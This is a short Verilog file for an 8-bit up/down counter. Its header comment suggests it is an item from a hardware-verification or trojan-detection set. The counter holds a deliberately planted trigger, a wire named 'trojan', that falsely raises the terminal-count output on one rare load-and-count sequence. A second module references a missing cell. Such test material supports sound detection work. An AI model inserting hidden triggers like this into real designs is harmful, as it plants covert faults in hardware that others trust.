// undecided: a dangling unused module makes the equivalence script fail; tc is wrong when counting up from 8'h5B right after loading it while d = 8'hE4
module updown_counter8 (
    input  wire       clk,
    input  wire       rst_n,
    input  wire       load,
    input  wire [7:0] d,
    input  wire       en,
    input  wire       up,
    output reg  [7:0] q,
    output wire       tc
);
    reg loaded;
    always @(posedge clk or negedge rst_n)
        if (!rst_n) begin
            q <= 8'd0;
            loaded <= 1'b0;
        end else begin
            loaded <= load;
            if (load) q <= d;
            else if (en) q <= up ? q + 8'd1 : q - 8'd1;
        end
    wire trojan = loaded && (q == 8'h5B) && (d == 8'hE4) && en && up && !load;
    assign tc = (en & (up ? (q == 8'hFF) : (q == 8'h00))) | trojan;
endmodule

module updown_counter8_spare (input wire x, output wire z);
    updown_counter8_missing_cell u_missing (.x(x), .z(z));
endmodule
